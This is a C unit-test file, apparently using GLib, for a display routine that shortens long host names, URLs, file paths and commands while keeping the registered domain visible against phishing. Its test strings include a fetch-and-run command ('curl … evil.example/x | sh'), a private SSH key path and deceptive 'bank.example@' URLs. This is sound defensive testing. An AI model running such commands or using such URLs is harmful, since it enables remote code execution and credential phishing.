/* SPDX-License-Identifier: GPL-3.0-or-later */
/* However long a name is, people see whose it is. */
#include "address-cut.h"

#define LONG "0123456789abcdef0123456789abcdef"

static void
check (const char *text, const char *expected)
{
  g_autofree char *cut = fh_address_cut (text);

  g_assert_cmpstr (cut, ==, expected);
}

static void
test_short (void)
{
  check ("", "");
  check ("evil.example", "evil.example");
  check ("[2001:db8::1]:443", "[2001:db8::1]:443");
  check ("https://evil.example/a?b", "https://evil.example/a?b");
  check ("~/.ssh/id_rsa", "~/.ssh/id_rsa");
}

static void
test_host (void)
{
  check (LONG "." LONG ".login.evil.example", "…login.evil.example");
  check (LONG "." LONG ".login.evil.example:443", "…login.evil.example:443");
  check ("accounts.example.com.login." LONG ".example", "…login." LONG ".example");
  /* What was registered is whole, whatever its length. */
  check ("login." LONG LONG ".example.", "…" LONG LONG ".example.");
  check ("login." LONG LONG ".co.uk", "…" LONG LONG ".co.uk");
  /* No host. */
  check (LONG LONG, LONG "0123456789abcde…");
}

static void
test_web_address (void)
{
  check ("https://evil.example/" LONG "/" LONG, "https://evil.example/0123456789abcdef0123456789…");
  check ("https://bank.example@" LONG "." LONG ".evil.example/" LONG,
         "https://…evil.example/0123456789abcdef012345678…");
  check ("https://bank.example:443@" LONG "." LONG ".evil.example:8080",
         "https://…evil.example:8080");
  check ("http://" LONG LONG ".example?" LONG, "http://" LONG LONG ".example?…");
}

static void
test_path (void)
{
  check ("/home/ann/My Documents/" LONG "/a name.pdf",
         "/home/ann/My…89abcdef0123456789abcdef/a name.pdf");
}

/* A command: its words are cut one by one. */
static void
test_words (void)
{
  check ("curl https://" LONG "." LONG ".evil.example/x | sh", "curl https://…evil.example/x | sh");
  check (LONG "://" LONG "." LONG ".evil.example", "…89abcdef://…evil.example");
  check ("echo " LONG " " LONG " " LONG, "echo " LONG " " LONG " …");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/address-cut/short", test_short);
  g_test_add_func ("/address-cut/host", test_host);
  g_test_add_func ("/address-cut/web-address", test_web_address);
  g_test_add_func ("/address-cut/path", test_path);
  g_test_add_func ("/address-cut/words", test_words);
  return g_test_run ();
}
